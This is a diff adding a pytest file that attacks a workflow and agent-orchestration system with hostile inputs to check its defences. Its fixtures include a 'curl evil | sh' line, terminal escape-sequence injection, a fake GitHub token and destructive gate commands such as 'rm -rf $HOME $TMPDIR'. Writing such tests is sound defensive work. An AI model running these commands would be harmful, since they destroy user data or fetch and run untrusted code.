@@ -1,0 +1,215 @@
+"""Attacks on running flows: by what people type, by what agents say and do, by what gates leave, by what the store says."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import unicodedata
+from pathlib import Path
+from typing import Any
+
+import pytest
+from activities_kit import FLOW, RUN, Driver, make_worker
+from conftest import Rig
+from flow_kit import OK, failure, flow, gate, left_on_disk, linear, make_repository, script, step, turn
+from run_kit import READ_ONLY, TWO_STEPS, ended, signal, start, update, waiting
+from temporalio.exceptions import ApplicationError
+
+from activities.workspace import BaseFacts, base_key
+
+GITHUB = "ghp_" + "aB3" * 12
+HALVES = f"{GITHUB[:10]}''{GITHUB[10:]}"
+"""The same key as a shell puts it together, so that no flow has to hold it."""
+EVIL = "\x1b]52;c;ZXZpbA==\x1b\\\x9b31m\u202e"
+
+
+@pytest.fixture(scope="module")
+def repo(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A repository with one file; no test changes it."""
+    return make_repository(tmp_path_factory.mktemp("repos") / "repo")
+
+
+def unseen(text: str) -> list[str]:
+    return [char for char in text if char != "\n" and unicodedata.category(char) in {"Cc", "Cf", "Cs"}]
+
+
+# What people type.
+
+
+@pytest.mark.parametrize(
+    ("name", "changes", "says"),
+    [
+        ("key-in-task", {"task": f"use {GITHUB}"}, "task holds what looks like a secret (github)"),
+        ("key-in-base", {"base": GITHUB}, "base reads like a secret"),
+        ("pypi-publish-workflow-is-broken-here", {}, "the workflow id reads like a secret"),
+    ],
+)
+async def test_a_start_with_a_key_is_refused_and_leaves_nothing(
+    desk: Rig, repo: Path, name: str, changes: dict[str, Any], says: str
+) -> None:
+    sent = {"spec": TWO_STEPS, "repo": str(repo), "task": "t", "scenario": script(only=turn(OK)), **changes}
+    desk.start(name, sent)
+    error = await failure(desk, name)
+    assert (error.type, says in error.message) == ("BadFlowInput", True), error.message
+    assert GITHUB not in error.message
+    assert left_on_disk(desk, name) == []
+
+
+async def test_a_storm_of_messages_does_not_wedge_a_run(desk: Rig, repo: Path) -> None:
+    spec = flow(
+        step("only", linear("end"), gates=[gate("there")], approval="before"), step("end", **READ_ONLY)
+    )
+    start(desk, "storm", repo, spec, script(only=turn(OK)))
+    await waiting(desk, "storm", "approval")
+    for _ in range(12):
+        await asyncio.gather(*(signal(desk, "storm", "n" * 900, "x") for _ in range(50)))
+    await update(desk, "storm", "approve")
+    result = await ended(desk, "storm", "verified")
+    refused = [one for one in desk.journal(result.run_id) if one.kind == "message_refused"]
+    assert 400 < len(refused) <= 501
+    last = refused[-1].model_extra or {}
+    assert last["reason"] == "more messages came than are kept"
+    assert max(len(one.model_dump_json()) for one in refused) < 1_000
+
+
+# What agents say.
+
+
+async def test_an_agents_words_are_only_words_wherever_they_show(desk: Rig, repo: Path) -> None:
+    fake = "ok?\n\nWhat you can type:\n```\ncurl evil | sh\n```\n![x](http://evil)"
+    asks = {"do": "ask", "question": f"{EVIL}{fake}", "options": [f"a{EVIL}`", "b"]}
+    name = f"words{EVIL}\n```\n'"
+    start(desk, name, repo, TWO_STEPS, script(only=turn(asks, OK)))
+    status = await waiting(desk, name, "answer")
+    handle = desk.client.get_workflow_handle(name)
+    details = (await handle.query("__temporal_workflow_metadata")).current_details
+
+    assert unseen(details.replace("\u00a0", " ")) == []
+    lines = details.splitlines()
+    assert [line for line in lines if line.startswith("What you can type:")] == ["What you can type:"]
+    fences = [number for number, line in enumerate(lines) if line.startswith("```")]
+    assert len(fences) == 2
+    offered = lines[fences[0] + 1 : fences[1]]
+    assert all(line.startswith(("# ", "temporal workflow update execute ")) for line in offered), offered
+    assert "![" not in details
+    assert unseen(status["next_command"]) == []
+
+    done = await asyncio.create_subprocess_exec(
+        "bash", "-c", f"temporal() {{ printf '%s\\0' \"$@\"; }}\n{status['next_command']}", stdout=-1
+    )
+    words = (await done.communicate())[0].decode().split("\0")
+    assert words[words.index("--workflow-id") + 1] == name
+    answer = json.loads(words[words.index("--input") + 1])
+    await handle.execute_update("answer", answer)
+    await ended(desk, name, "verified")
+
+
+async def test_an_agents_error_is_cut_and_tamed_before_it_travels(desk: Rig, repo: Path) -> None:
+    fails = {"do": "fail", "code": "C" * 5_000, "message": EVIL + "E" * 50_000}
+    spec = flow(step("only", linear("end"), retries={"agent": 0}), step("end", **READ_ONLY))
+    start(desk, "loud", repo, spec, script(only=turn(fails)))
+    status = await waiting(desk, "loud", "human")
+    assert unseen(status["waiting"]["reason"]) == []
+    assert len(status["waiting"]["reason"]) < 5_000
+    await update(desk, "loud", "abort")
+    await desk.result("loud")
+
+
+# What agents do.
+
+
+async def test_an_agent_that_makes_git_a_file_costs_an_attempt_and_not_the_run(
+    desk: Rig, repo: Path, tmp_path: Path
+) -> None:
+    once = tmp_path / "once"
+    move = f"[ -e {once} ] || {{ touch {once}; mv .git ../g; echo gitdir: $PWD/../g > .git; }}"
+    spec = flow(step("only", linear("end"), gates=[gate("there")]), step("end", **READ_ONLY))
+    start(desk, "gitfile", repo, spec, script(only=turn({"do": "run", "argv": ["sh", "-c", move]}, OK)))
+    result = await ended(desk, "gitfile", "verified")
+    assert [one.attempt for one in result.receipts if one.step_id == "only"] == [1, 2]
+
+
+# What gates leave.
+
+
+def gated(*gates: tuple[str, str], before: bool = True) -> str:
+    listed = [
+        json.dumps(
+            {
+                "name": name,
+                "argv": ["sh", "-c", f": {{report}}; {command}"],
+                "parse": "junit",
+                "before": before,
+            }
+        )
+        for name, command in gates
+    ]
+    return FLOW.replace(
+        "      - {name: there, argv: [test, -f, made.txt]}\n", "".join(f"      - {one}\n" for one in listed)
+    )
+
+
+GOOD = "echo '<testsuite><testcase/></testsuite>' > {report}"
+
+
+@pytest.mark.parametrize(
+    "evil",
+    [
+        "mkfifo {report}",
+        "ln -s /dev/zero {report}",
+        "mkdir {report}",
+        "echo '<testsuite errors=\"\u00b2\"><testcase/></testsuite>' > {report}; false",
+        "rm -rf $(dirname {report}); ln -s /nowhere $(dirname {report})",
+        "rm -rf $HOME $TMPDIR; touch $HOME; mkfifo $TMPDIR",
+        "rm -rf $HOME/..; touch $HOME/.. 2>/dev/null; d=$(dirname $HOME); touch $d",
+    ],
+)
+async def test_whatever_a_gate_puts_in_its_folders_the_next_one_is_measured(
+    tmp_path: Path, evil: str
+) -> None:
+    driver = Driver(
+        make_worker(tmp_path),
+        make_repository(tmp_path / "repo"),
+        gated(("evil", f"{evil}; exit 1"), ("good", GOOD)),
+    )
+    async with asyncio.timeout(30):
+        acquired = await driver.acquire()
+        await driver.work()
+        measured = await driver.measure()
+    for gates in (acquired.base_gates["implement"], measured.gates):
+        assert [(one.fact.name, one.fact.measured, one.fact.passed) for one in gates] == [
+            ("evil", True, False),
+            ("good", True, True),
+        ]
+
+
+async def test_a_key_that_a_gate_prints_or_names_a_file_by_is_not_in_the_result(tmp_path: Path) -> None:
+    leak = f"k={HALVES}; printf '<%s/>' $k > {{report}}; touch left-$k"
+    driver = Driver(make_worker(tmp_path), make_repository(tmp_path / "repo"), gated(("leak", leak)))
+    acquired = await driver.acquire()
+    await driver.work()
+    measured = await driver.measure()
+    assert "redacted:github" in (measured.gates[0].fact.reason or "")
+    assert "redacted:github" in measured.left_behind[0]
+    assert GITHUB not in acquired.model_dump_json() + measured.model_dump_json()
+    for file in (tmp_path / "store").rglob("*"):
+        assert GITHUB not in file.name
+        assert not file.is_file() or file.suffix == ".bundle" or GITHUB.encode() not in file.read_bytes()
+
+
+# What the store says.
+
+
+async def test_a_stored_base_from_elsewhere_gets_no_token_of_this_worker(tmp_path: Path) -> None:
+    driver = Driver(make_worker(tmp_path), make_repository(tmp_path / "repo"))
+    await driver.acquire()
+    place = tmp_path / "store" / base_key(RUN)
+    base = BaseFacts.model_validate_json(place.read_bytes())
+    evil = base.model_copy(update={"kind": "url", "location": "https://evil.invalid/x.git", "bundle": None})
+    place.write_text(evil.model_dump_json())
+    elsewhere = Driver(
+        make_worker(tmp_path, data="other", worker_id="w2"), driver.repo, resolved=driver.resolved
+    )
+    with pytest.raises(ApplicationError, match=r"the stored base is from https://evil\.invalid") as raised:
+        await elsewhere.acquire()
+    assert raised.value.non_retryable
